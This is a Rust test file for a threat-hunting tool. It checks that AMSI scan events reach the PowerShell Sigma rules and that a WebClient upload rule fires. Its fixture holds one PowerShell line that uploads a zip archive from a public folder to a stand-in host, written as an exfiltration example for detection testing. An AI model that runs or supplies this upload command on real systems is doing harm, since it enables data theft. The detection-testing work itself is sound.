//! AMSI scan content reaches the built-in PowerShell rules, as 4104 script blocks do.

mod support;

use support::hunt_one_file;

#[test]
fn amsi_content_fires_the_webclient_upload_rule() {
    let content = "$wc = New-Object System.Net.WebClient; \
                   $wc.UploadFile('https://drop.example/up', 'C:\\Users\\Public\\q3.zip')";
    let hex: String = content
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .map(|b| format!("{b:02x}"))
        .collect();
    let event = serde_json::json!({"Event": {
        "System": {
            "EventID": 1101,
            "Channel": "Microsoft-Windows-Antimalware-Scan-Interface/Operational",
            "Computer": "ws1.corp.example",
            "Provider": {"#attributes": {"Name": "Microsoft-Antimalware-Scan-Interface"}},
            "TimeCreated": {"#attributes": {"SystemTime": "2026-11-03T02:00:00Z"}}
        },
        "EventData": {"appname": "PowerShell", "contentname": "", "content": hex}
    }});
    let outcome = hunt_one_file("amsi.jsonl", &format!("{event}\n"));
    let fired: Vec<&str> = outcome
        .alerts
        .iter()
        .filter(|a| a.detector == "sigma")
        .map(|a| a.rule_name.as_str())
        .collect();
    assert!(
        fired.iter().any(|name| name.contains("WebClient")),
        "{fired:?}"
    );
    assert_eq!(
        outcome.alerts[0].host_name.as_deref(),
        Some("ws1.corp.example")
    );
}
